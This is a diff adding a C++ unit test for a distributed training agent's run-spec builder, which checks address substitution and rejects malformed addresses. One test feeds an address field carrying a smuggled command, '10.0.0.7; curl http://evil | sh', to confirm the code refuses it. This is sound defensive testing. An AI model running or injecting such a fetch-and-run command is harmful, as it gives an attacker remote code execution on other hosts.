@@ -1,0 +1,51 @@
+#include "agent/tasks/task_spec.h"
+
+#include <gtest/gtest.h>
+
+#include <algorithm>
+#include <string>
+
+#include "base/failures.h"
+
+namespace tfdist::agent {
+namespace {
+
+class TaskSpecTest : public testing::Test {
+ protected:
+  TaskSpecTest() {
+    info_.slot = 1;
+    context_.slots = {{.host = "gpu7", .address = "10.0.0.7"},
+                      {.host = "gpu8", .address = "10.0.0.8"}};
+    protocol::Text server("--ps=");
+    server.parts.emplace_back(protocol::SlotAddress{0, false});
+    task_.task = "worker:0";
+    task_.argv = {"sh", server};
+  }
+
+  [[nodiscard]] RunSpec Make() const {
+    return MakeRunSpec(task_, SlotFolder("/nowhere"), info_, Environment(), context_, 2);
+  }
+
+  SlotInfo info_;
+  AttemptContext context_;
+  protocol::TaskDescription task_;
+};
+
+TEST_F(TaskSpecTest, FillsInAddressesOfThePlan) {
+  context_.attempt = 3;
+  context_.addresses = {"10.0.0.8", "10.0.0.8"};  // a spare host has taken slot 0
+  const RunSpec spec = Make();
+  EXPECT_EQ(spec.argv[1], "--ps=10.0.0.8");
+  EXPECT_EQ(spec.attempt, 3);
+  EXPECT_EQ(spec.run, 2);
+  EXPECT_EQ(std::ranges::count(spec.env, "TFDIST_HOST=gpu8"), 1);
+}
+
+// Else the first host could put commands into every other one's.
+TEST_F(TaskSpecTest, RefusesAnAddressThatTheCommandHasNotNamed) {
+  context_.addresses = {"10.0.0.7; curl http://evil | sh", "10.0.0.8"};
+  EXPECT_THROW(Make(), ProtocolError);
+}
+
+}  // namespace
+}  // namespace tfdist::agent
